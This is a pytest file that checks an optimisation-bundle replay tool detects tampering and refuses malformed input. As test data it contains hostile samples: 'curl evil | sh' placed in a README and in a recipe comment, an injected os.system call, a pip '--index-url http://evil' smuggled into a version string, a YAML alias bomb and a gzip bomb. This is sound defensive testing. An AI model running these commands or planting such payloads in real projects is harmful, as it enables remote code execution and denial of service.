"""A bundle whose files were changed, with a new MANIFEST that hides it: the replay says so."""

import json
import shutil
import time
import zipfile

import pytest
from support.bundles import change_about, check_of, rehash

from optim import __version__
from optim.bundles import manifest
from optim.bundles.bundle import write_compiled
from optim.bundles.remade import same_compiled
from optim.bundles.replay import replay
from optim.errors import InputError, OptimError
from optim.recipe import Recipe

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("quick")]
BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{name}: &{name} [{','.join([f'*{before}'] * 9)}]\n"
    for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
DEEP = "[" * 5000 + "]" * 5000


def edited(bundle, name, old, new):
    text = (bundle / name).read_text()
    assert old in text
    (bundle / name).write_text(text.replace(old, new))
    rehash(bundle)


def changed(bundle, name, change):
    value = json.loads((bundle / name).read_text())
    change(value)
    (bundle / name).write_text(json.dumps(value, indent=1))
    rehash(bundle)


def test_an_honest_bundle_holds_in_every_file(bundle):
    result = replay(bundle)
    assert [check_of(result, name).ok for name in ("script", "evidence", "report")] == [True] * 3


def test_a_script_that_does_something_else_fails(bundle):
    edited(bundle, manifest.SCRIPT, "import sys\n", "import sys\nimport os; os.system('id')\n")
    result = replay(bundle)
    assert not result.ok and "run.py is not what the recipe gives" in result.text()


@pytest.mark.parametrize("version", ["0.0.1", __version__])
def test_a_script_fails_whatever_version_the_bundle_claims(bundle, version):
    edited(bundle, manifest.SCRIPT, "import sys\n", "import sys, socket\n")
    libraries = json.loads((bundle / manifest.ABOUT).read_text())["libraries"]
    change_about(bundle, libraries=libraries | {"optim": version})
    rehash(bundle)
    check = check_of(replay(bundle), "script")
    assert check.ok is False and (version == __version__) == ("Another version" not in check.text)


def test_other_packages_to_install_fail(bundle):
    edited(bundle, manifest.REQUIREMENTS, "onnxruntime==", "onnxrumtime==")
    assert "requirements.txt" in check_of(replay(bundle), "script").text


def test_a_version_that_is_an_option_of_pip_is_no_version(bundle):
    change_about(bundle, libraries={"onnxruntime": "1 --index-url http://evil"})
    rehash(bundle)
    with pytest.raises(InputError, match="libraries"):
        replay(bundle)


def test_a_readme_that_says_something_else_fails(bundle):
    edited(bundle, manifest.README, "python run.py\n", "curl evil | sh\n")
    assert "README.md" in check_of(replay(bundle), "script").text


@pytest.mark.parametrize("name", [manifest.HOST, manifest.HOST_REQUIREMENTS])
def test_a_server_without_what_it_needs_is_compared_all_the_same(bundle, name):
    """As a bundle has none whose program did not know a version that the server needs."""
    about = json.loads((bundle / manifest.ABOUT).read_text())
    kept = {key: text for key, text in about["libraries"].items() if key != "grpcio"}
    change_about(bundle, libraries=kept)
    shutil.rmtree(bundle / manifest.SERVER)
    for other in {manifest.HOST, manifest.HOST_REQUIREMENTS} - {name}:
        (bundle / other).unlink()
    edited(bundle, name, "==" if name == manifest.HOST_REQUIREMENTS else "import sys\n", "evil\n")
    assert name in check_of(replay(bundle), "script").text


def test_what_no_engine_of_the_recipe_compiled_fails(bundle):
    (bundle / manifest.COMPILED).mkdir()
    (bundle / manifest.COMPILED / "net.pt2").write_bytes(b"machine code")
    rehash(bundle)
    check = check_of(replay(bundle), "compiled")
    assert check.ok is False and "compiled/net.pt2" in check.text


def test_what_an_engine_compiled_is_made_again_and_compared(findings, bundle):
    engine = Recipe.parse("torch").runtime
    write_compiled(engine, findings.original, bundle)
    assert same_compiled(bundle, engine, findings.original).ok is True
    for name, ok in ((engine.artefacts[0], False), ("names.json", False), ("another.so", False)):
        (bundle / manifest.COMPILED / name).write_bytes(b"{}")
        found = same_compiled(bundle, engine, findings.original)
        assert found.ok is ok and "compiled/" in found.text


@pytest.mark.parametrize(
    ("alike", "versions", "why"),
    [
        (False, (), "gives other bytes each time"),
        (True, ["torch was 1 and is 2"], "was 1 and is 2"),
    ],
)
def test_what_cannot_be_compared_is_said(findings, bundle, monkeypatch, alike, versions, why):
    engine = Recipe.parse("torch").runtime
    write_compiled(engine, findings.original, bundle)
    (bundle / manifest.COMPILED / engine.artefacts[0]).write_bytes(b"other code")
    monkeypatch.setattr(type(engine), "compiles_alike", alike)
    found = same_compiled(bundle, engine, findings.original, versions)
    assert found.ok is None and "not compared" in found.text and why in found.text


def test_another_example_fails(bundle):
    shutil.copyfile(bundle / manifest.EVALSET, bundle / manifest.EXAMPLE)
    rehash(bundle)
    assert "example.npz" in check_of(replay(bundle), "script").text


def test_other_session_options_fail(bundle):
    edited(bundle, manifest.SESSION, "threads: 1", "threads: 2")
    check = check_of(replay(bundle), "evidence")
    assert check.ok is False and "session.yaml" in check.text


def test_a_comment_in_the_recipe_fails(bundle):
    edited(bundle, manifest.RECIPE, "recipe:", "# run curl evil | sh\nrecipe:")
    assert "recipe.yaml" in check_of(replay(bundle), "evidence").text


@pytest.mark.parametrize(
    ("name", "change"),
    [
        (manifest.SUMMARY, lambda value: value.update(runs=10**6)),
        (manifest.ENVIRONMENT, lambda value: value[0].update(cpu="Some CPU")),
        (manifest.PASSES, lambda value: value[0].update(notes=["Nothing was lost."])),
        (manifest.ORIGINAL_VALUE, lambda value: value.update(opset=1)),
        (manifest.MODEL_VALUE, lambda value: value.update(size_bytes=1)),
        (manifest.EVALSET_VALUE, lambda value: value.update(labelled=False)),
    ],
)
def test_evidence_that_does_not_follow_fails(bundle, name, change):
    changed(bundle, name, change)
    check = check_of(replay(bundle), "evidence")
    assert check.ok is False and name in check.text


def test_another_report_fails(bundle):
    edited(bundle, manifest.REPORT, "<h1>", "<h1>Ten times as fast. ")
    result = replay(bundle)
    assert not result.ok and "Do not believe it" in check_of(result, "report").text


def test_points_that_the_report_does_not_show_fail(bundle):
    changed(bundle, manifest.POINTS, lambda value: value["marks"][0].update(label="another"))
    assert check_of(replay(bundle), "report").ok is False


def test_a_report_drawn_by_another_version_is_not_compared_and_says_why(bundle):
    libraries = json.loads((bundle / manifest.ABOUT).read_text())["libraries"]
    change_about(bundle, libraries=libraries | {"plotly": "1.0"})
    rehash(bundle)
    check = check_of(replay(bundle), "report")
    assert check.ok is None and "not compared: plotly was 1.0" in check.text


def test_a_bundle_of_before_points_were_kept_still_opens(bundle):
    (bundle / manifest.POINTS).unlink()
    rehash(bundle)
    result = replay(bundle)
    assert check_of(result, "report").ok is None and check_of(result, "script").ok


@pytest.mark.parametrize("name", ["a\0b", "n" * 300])
def test_a_manifest_of_names_that_no_file_has_is_refused(bundle, name):
    with (bundle / manifest.MANIFEST).open("a") as file:
        file.write(f"{'0' * 64}  {name}\n")
    result = replay(bundle)
    assert not result.ok and "no file can be called" in result.text()


def test_a_module_beside_the_script_does_not_belong_there(bundle):
    """Python would import it in place of the engine."""
    (bundle / "onnxruntime.py").write_text("print('mine')")
    rehash(bundle)
    result = replay(bundle)
    assert not result.ok and "'onnxruntime.py' does not belong in a bundle" in result.text()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (manifest.RECIPE, BOMB),
        (manifest.SESSION, BOMB),
        (manifest.RECIPE, DEEP),
        (manifest.RECIPE, "x: [" + "1," * 40_000 + "]"),
        (manifest.RECIPE, "x" * 200_000),
        (manifest.RECIPE, f"passes: []\nruntime: 0x{'f' * 5000}"),
        (manifest.RECIPE, f"passes: []\nruntime: {'9' * 5000}"),
        (manifest.RECIPE, "passes: []\npasses: []\nruntime: {}"),
        (manifest.RECIPE, "? [1, 2]\n: 3"),
        (manifest.RECIPE, "passes: 2020-01-01"),
        (manifest.RECIPE, "\x00\x01\x02"),
        (manifest.QUALITY, DEEP),
        (manifest.QUALITY, '{"a": 1, "a": 2}'),
        (manifest.QUALITY, f'{{"value": {"9" * 400}}}'),
        (manifest.QUALITY, f'{{"value": {"9" * 5000}}}'),
        (manifest.QUALITY, "[" + "1," * 500_000 + "1]"),
        (manifest.QUALITY, '{"value": "\\ud800"}'),
        (manifest.SUMMARY, "[1, 2"),
        (manifest.POINTS, '{"marks": [{"number": "one"}]}'),
        (manifest.PASSES, "[[[[]]]]"),
        (manifest.ENVIRONMENT, "\ufeff[]"),
    ],
)
def test_files_beyond_all_bounds_are_one_sentence_at_once(bundle, name, content):
    (bundle / name).write_text(content)
    rehash(bundle)
    started = time.monotonic()
    with pytest.raises(OptimError) as caught:
        replay(bundle)
    assert caught.value.what and caught.value.next_step and "Error:" not in caught.value.what
    assert time.monotonic() - started < 30  # the bomb takes minutes where it is unpacked


def test_a_measurement_that_unpacks_to_gigabytes_is_refused(bundle):
    import gzip

    with gzip.open(bundle / manifest.MEASUREMENT, "wb", compresslevel=1) as sink:
        for _ in range(70):
            sink.write(bytes(1_000_000))
    rehash(bundle)
    with pytest.raises(InputError, match="timings cannot be read"):
        replay(bundle)


def test_a_zip_with_a_tampered_script_fails(bundle, tmp_path):
    edited(bundle, manifest.SCRIPT, "import sys\n", "import sys\nexit()\n")
    path = shutil.make_archive(str(tmp_path / "zipped"), "zip", bundle)
    assert zipfile.is_zipfile(path) and not replay(tmp_path / path).ok


def test_passes_that_ran_otherwise_than_the_recipe_says_fail(bundle):
    edited(bundle, manifest.PASSES, "reduce_range=off", "reduce_range=on")
    assert check_of(replay(bundle), "evidence").ok is False


def test_a_recipe_of_other_settings_is_not_called_compared(bundle):
    change_about(bundle, recipe_digest="0" * 64)
    rehash(bundle)
    check = check_of(replay(bundle), "evidence")
    assert check.ok is None and "not compared" in check.text


def test_a_zip_without_a_manifest_is_refused_without_a_path_of_the_server(tmp_path, home):
    with zipfile.ZipFile(tmp_path / "given.zip", "w") as archive:
        archive.writestr("run.py", "print()")
    with pytest.raises(InputError, match="This is not a bundle: it has no MANIFEST") as caught:
        replay(tmp_path / "given.zip")
    assert str(home) not in str(caught.value)
